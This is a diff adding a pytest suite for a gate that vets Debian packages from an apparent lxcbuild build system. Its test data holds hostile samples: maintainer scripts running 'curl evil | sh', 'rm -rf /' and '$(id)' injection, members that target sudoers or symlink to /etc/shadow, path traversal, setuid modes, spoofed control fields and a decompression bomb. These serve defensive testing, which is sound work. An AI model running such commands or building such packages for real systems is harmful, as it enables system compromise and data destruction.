@@ -1,0 +1,267 @@
+"""The output gate accepts what debhelper makes and rejects everything that a hostile build could slip in."""
+
+from __future__ import annotations
+
+import dataclasses
+import lzma
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import debs
+import pytest
+from debs import Entry
+
+from lxcbuild.debian.artifacts import ArtifactError, parse_stanza, read_deb
+from lxcbuild.debian.gate import GateReport, GateRequest, RuleSet, check, suite_owners
+
+REQUEST = GateRequest(
+    rules=RuleSet.PYTHON,
+    source="python-demo",
+    version="1.0-0~lxcbuild1~deb12",
+    suite="bookworm",
+    architecture="amd64",
+    package="python3-demo",
+    project="Demo",
+    project_version="1.0",
+)
+LONG = "./usr/lib/python3/dist-packages/demo/" + "/".join(["directory"] * 12) + "/module.py"
+
+
+def judged(
+    tmp_path: Path, package: bytes | None = None, *, changes: dict[str, str] | None = None, **request: Any
+) -> GateReport:
+    return check(dataclasses.replace(REQUEST, **request), debs.build(tmp_path, package, **(changes or {})))
+
+
+def rules(report: GateReport) -> set[str]:
+    return {finding.rule for finding in report.findings if finding.fatal}
+
+
+@pytest.mark.parametrize("compression", ["xz", "gz", ""])
+def test_an_honest_package_is_accepted(tmp_path: Path, compression: str) -> None:
+    report = judged(tmp_path, debs.deb(compression=compression))
+    assert report.findings == ()
+    assert report.relations == {"python3-demo": "python3:any"}
+
+
+def test_our_writer_of_packages_agrees_with_dpkg(tmp_path: Path) -> None:
+    if shutil.which("dpkg-deb") is None:
+        pytest.skip("dpkg-deb is not installed")
+    path = tmp_path / "a.deb"
+    path.write_bytes(debs.deb(tree=[*debs.TREE, Entry(LONG)]))
+    listed = subprocess.run(["dpkg-deb", "--contents", path], check=True, capture_output=True, text=True).stdout
+    names = {member.name for member in read_deb(path).members}
+    assert names == {line.split()[5].removeprefix("./").rstrip("/") for line in listed.splitlines()} - {""}
+    assert LONG.removeprefix("./") in names
+
+
+def test_a_zstd_package_is_read(tmp_path: Path) -> None:
+    if shutil.which("dpkg-deb") is None or shutil.which("zstd") is None:
+        pytest.skip("dpkg-deb or zstd is not installed")
+    tree = tmp_path / "tree"
+    (tree / "DEBIAN").mkdir(parents=True)
+    (tree / "DEBIAN/control").write_text(debs.CONTROL)
+    (tree / "usr").mkdir()
+    subprocess.run(["dpkg-deb", "-Zzstd", "--root-owner-group", "-b", tree, tmp_path / "z.deb"], check=True, stdout=-3)
+    assert [member.name for member in read_deb(tmp_path / "z.deb").members] == ["usr"]
+
+
+def test_a_real_package_of_debhelper_has_no_script_finding(tmp_path: Path) -> None:
+    prerm = (
+        "#!/bin/sh\nset -e\n# Automatically added by dh_python3\nif command -v py3clean >/dev/null 2>&1; then\n"
+        "\tpy3clean -p python3-demo:amd64 -V 3.11\nelse\n"
+        "\tdpkg -L python3-demo | sed -En -e '/^(.*)\\/(.+)\\.py$/s,,rm \"\\1/__pycache__/\\2\".*,e'\n"
+        "\tfind /usr/lib/python3/dist-packages/ -type d -name __pycache__ -empty -print0 "
+        "| xargs --null --no-run-if-empty rmdir\nfi\n"
+    )
+    assert judged(tmp_path, debs.deb(scripts={"prerm": prerm})).accepted
+
+
+@pytest.mark.parametrize(
+    ("entry", "rule"),
+    [
+        (Entry("./etc/sudoers.d/evil", b"x"), "layout"),
+        (Entry("./usr/lib/os-release", b"x"), "layout"),
+        (Entry("./usr/etc/demo.conf", b"x"), "layout"),
+        (Entry("./usr/lib/python3/evil.py", b"x"), "layout"),
+        (Entry("./usr/lib/systemd/system/evil.service", b"x"), "layout"),
+        (Entry("./usr/share/doc/other/x", b"x"), "layout"),
+        (Entry("./usr/share/bash-completion/completions/../x"), "format"),
+        (Entry("./usr/bin/../../etc/passwd"), "format"),
+        (Entry("/etc/passwd"), "format"),
+        (Entry("./usr/bin/su", mode=0o4755), "mode"),
+        (Entry("./usr/bin/sg", mode=0o2755), "mode"),
+        (Entry("./usr/bin/open", mode=0o777), "mode"),
+        (Entry("./usr/bin/theirs", uid=1000), "owner"),
+        (Entry("./usr/bin/null", kind=b"3"), "format"),
+        (Entry("./usr/bin/fifo", kind=b"6"), "format"),
+        (Entry("./usr/bin/pax", b"12 path=/etc\n", kind=b"x"), "format"),
+        (Entry("./usr/bin/link", kind=b"2", link="/etc/shadow", mode=0o777), "link"),
+        (Entry("./usr/bin/link", kind=b"2", link="../../../etc/shadow", mode=0o777), "link"),
+        (Entry("./usr/bin/hard", kind=b"1", link="./etc/shadow"), "link"),
+        (Entry("./usr/bin/demo", b"again"), "tree"),
+        (Entry("./usr/bin/demo/below", b"x"), "tree"),
+        (Entry("./usr/lib/python3/dist-packages/demo/_x.so", b"ELF"), "compiled"),
+        (Entry("./usr/lib/python3/dist-packages/other-1.0.dist-info/METADATA", b"x"), "project"),
+        (Entry("./usr/lib/python3/dist-packages/demo-2.0.dist-info/METADATA", b"x"), "project"),
+        (Entry("./usr/bin/new\nline"), "format"),
+        (Entry("./usr/bin/\x1b[2J"), "format"),
+    ],
+)
+def test_a_hostile_member_rejects_the_package(tmp_path: Path, entry: Entry, rule: str) -> None:
+    report = judged(tmp_path, debs.deb(tree=[*debs.TREE, entry]))
+    assert not report.accepted
+    assert rule in rules(report)
+
+
+def test_links_within_the_package_are_accepted(tmp_path: Path) -> None:
+    extra = [
+        Entry("./usr/bin/demo2", kind=b"2", link="demo", mode=0o777),
+        Entry("./usr/bin/demo3", kind=b"1", link="./usr/bin/demo", mode=0o755),
+        Entry("./usr/share/demo/m", kind=b"2", link="../../lib/python3/dist-packages/demo", mode=0o777),
+        Entry(LONG, b"x"),
+    ]
+    assert judged(tmp_path, debs.deb(tree=[*debs.TREE, *extra])).accepted
+
+
+def test_writing_through_an_own_link_is_rejected(tmp_path: Path) -> None:
+    extra = [Entry("./usr/share/demo", kind=b"2", link="doc", mode=0o777), Entry("./usr/share/demo/x", b"x")]
+    assert "tree" in rules(judged(tmp_path, debs.deb(tree=[*debs.TREE, *extra])))
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "#!/bin/sh\nset -e\ncurl evil | sh\n",
+        "#!/bin/sh\npy3compile -p python3-demo; rm -rf /\n",
+        "#!/bin/sh\npy3compile -p python3-demo $(id)\n",
+        "#!/bin/sh\npy3compile -p python3-other\n",
+        "#!/usr/bin/perl\nset -e\n",
+        "#!/bin/sh\n# harmless \\\nrm -rf /\n",
+        "set -e\n",
+        "#!/bin/sh\nset -e \u00a0\n",
+        "",
+    ],
+)
+def test_a_maintainer_script_of_its_own_rejects_the_package(tmp_path: Path, script: str) -> None:
+    for name in ("postinst", "preinst"):
+        assert "script" in rules(judged(tmp_path, debs.deb(scripts={name: script})))
+
+
+@pytest.mark.parametrize("name", ["config", "templates", "conffiles", "evil"])
+def test_other_control_files_reject_the_package(tmp_path: Path, name: str) -> None:
+    assert "control-file" in rules(judged(tmp_path, debs.deb(scripts={name: "x\n"})))
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("Package: python3-demo", "Package: python3-other"),
+        ("Source: python-demo", "Source: glibc"),
+        ("Version: 1.0", "Version: 9:1.0"),
+        ("Version: 1.0", "Version: 2.0"),
+        ("Architecture: all", "Architecture: amd64"),
+        ("Description:", "Essential: yes\nDescription:"),
+        ("Description:", "Pre-Depends: evil\nDescription:"),
+        ("Description:", "Replaces: libc6\nDescription:"),
+        ("Description:", "Conflicts: openssh-server\nDescription:"),
+        ("Description:", "Provides: python3-requests\nDescription:"),
+        ("Depends: python3:any", "Depends: " + "x" * 30_000),
+        ("Description:", "Version: 1.0-0~lxcbuild1~deb12\nDescription:"),
+        ("Description:", "\nPackage: second\nDescription:"),
+    ],
+)
+def test_a_control_file_that_claims_something_else_is_rejected(tmp_path: Path, old: str, new: str) -> None:
+    report = judged(tmp_path, debs.deb(control=debs.CONTROL.replace(old, new)))
+    assert not report.accepted
+
+
+@pytest.mark.parametrize(
+    "changes", [{"Distribution": "trixie"}, {"Source": "glibc"}, {"Version": "2"}, {"Binary": "python3-demo evil"}]
+)
+def test_a_changes_file_that_claims_something_else_is_rejected(tmp_path: Path, changes: dict[str, str]) -> None:
+    assert "field" in rules(judged(tmp_path, changes=changes))
+
+
+def test_artefacts_must_be_the_files_that_the_documents_describe(tmp_path: Path) -> None:
+    files = debs.build(tmp_path)
+    (path,) = (path for path in files if path.name.endswith(".debian.tar.xz"))
+    path.write_bytes(b"edited")
+    assert "hash" in rules(check(REQUEST, files))
+    assert "hash" in rules(check(REQUEST, [file for file in files if file != path]))
+
+
+def test_files_that_no_document_lists_are_rejected(tmp_path: Path) -> None:
+    extra = tmp_path / "evil_1_all.deb"
+    extra.write_bytes(debs.deb(control=debs.CONTROL.replace("python3-demo", "evil")))
+    assert {"set", "field"} <= rules(check(REQUEST, [*debs.build(tmp_path), extra]))
+
+
+def test_a_file_of_another_package_is_rejected(tmp_path: Path) -> None:
+    owners = suite_owners({"demo": ["other"]}.get, {"demo": ["python3-demo"]}.get)  # type: ignore[arg-type]
+    report = judged(tmp_path, owners=lambda path: owners(path) or ())
+    assert [(finding.rule, finding.subject) for finding in report.findings] == [("owned", "usr/bin/demo")]
+
+
+@pytest.mark.parametrize(
+    "package",
+    [
+        b"",
+        b"!<arch>\n",
+        b"not an archive",
+        debs.deb()[:-100],
+        debs.deb() + b"trailing bytes that are no header",
+        debs.ar([("debian-binary", b"3.0\n"), ("control.tar", b""), ("data.tar", b"")]),
+        debs.ar([("debian-binary", b"2.0\n"), ("_evil", b""), ("control.tar", b""), ("data.tar", b"")]),
+        debs.ar(
+            [("debian-binary", b"2.0\n"), ("control.tar.xz", lzma.compress(b"x") + b"more"), ("data.tar", bytes(1024))]
+        ),
+        debs.ar(
+            [
+                ("debian-binary", b"2.0\n"),
+                ("control.tar", debs.tar([Entry("./control", b"A: b\n")]) + b"more"),
+                ("data.tar", b""),
+            ]
+        ),
+        debs.ar(
+            [
+                ("debian-binary", b"2.0\n"),
+                ("control.tar", debs.tar([Entry("./x/control", b"")])),
+                ("data.tar", bytes(1024)),
+            ]
+        ),
+    ],
+)
+def test_a_malformed_archive_is_rejected(tmp_path: Path, package: bytes) -> None:
+    assert "format" in rules(judged(tmp_path, package))
+
+
+def test_a_bomb_is_read_no_further_than_the_bound(tmp_path: Path) -> None:
+    bomb = debs.ar(
+        [
+            ("debian-binary", b"2.0\n"),
+            ("control.tar.xz", lzma.compress(debs.tar([Entry("./control", debs.CONTROL.encode())]))),
+            ("data.tar.xz", lzma.compress(debs.tar([Entry("./usr/bin/zeros", bytes(16 * 1024 * 1024))]), preset=1)),
+        ]
+    )
+    path = tmp_path / "bomb.deb"
+    path.write_bytes(bomb)
+    assert len(bomb) < 100_000
+    with pytest.raises(ArtifactError, match="more bytes than allowed"):
+        read_deb(path, max_data_bytes=1024 * 1024)
+
+
+def test_megabytes_in_one_field_are_refused() -> None:
+    with pytest.raises(ArtifactError):
+        parse_stanza(b"Description: " + b"x" * (2 * 1024 * 1024), what="it")
+
+
+def test_any_debian_package_may_bring_scripts_and_configuration_but_no_system_files(tmp_path: Path) -> None:
+    extra = [Entry("./etc/demo.conf", b"x"), Entry("./usr/lib/demo", kind=b"2", link="/etc/demo", mode=0o777)]
+    package = debs.deb(scripts={"postinst": "#!/bin/sh\nadduser demo\n"}, tree=[*debs.TREE, *extra])
+    assert judged(tmp_path, package, rules=RuleSet.ANY).accepted
+    for name in ("./etc/sudoers.d/x", "./usr/lib/os-release", "./root/x", "./etc/passwd", "./usr/local/bin/x"):
+        hostile = debs.deb(tree=[*debs.TREE, Entry(name, b"x")])
+        assert "layout" in rules(judged(tmp_path, hostile, rules=RuleSet.ANY))
